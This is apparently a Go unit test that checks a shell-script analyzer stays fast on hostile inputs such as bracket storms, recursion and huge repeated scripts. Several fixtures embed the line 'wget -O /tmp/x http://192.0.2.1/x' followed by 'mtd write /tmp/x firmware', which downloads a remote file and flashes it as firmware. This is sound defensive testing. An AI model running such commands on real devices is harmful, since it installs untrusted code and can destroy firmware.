package updatepath

import (
	"strings"
	"testing"
	"time"
)

// Hostile scripts stay cheap: bracket storms are not given to the
// parser, and call fan-out is bounded however functions call each other.
func TestHostileScripts(t *testing.T) {
	var fan strings.Builder
	names := []string{"a", "b", "c", "d", "e", "f"}
	for i, n := range names[:len(names)-1] {
		fan.WriteString(n + "() { " + strings.Repeat(names[i+1]+"; ", 20) + "}\n")
	}
	fan.WriteString("f() { wget -O /tmp/x http://192.0.2.1/x; }\n")
	fan.WriteString(strings.Repeat("a\n", 5000) + "mtd write /tmp/x firmware\n")
	cases := map[string]string{
		"brackets":  strings.Repeat("$(", 300000),
		"fanout":    fan.String(),
		"recursion": "f() { f; f; f; }\nf\n",
		"longline":  "wget -O /tmp/x " + strings.Repeat("A", 1<<20) + "\nmtd write /tmp/x firmware\n",
		"manylines": strings.Repeat("wget -O /tmp/x http://192.0.2.1/x; mtd write /tmp/x firmware\n", 30000),
	}
	for name, src := range cases {
		start := time.Now()
		analyze(parseScript([]byte(src)))
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s took %v", name, d)
		}
	}
}
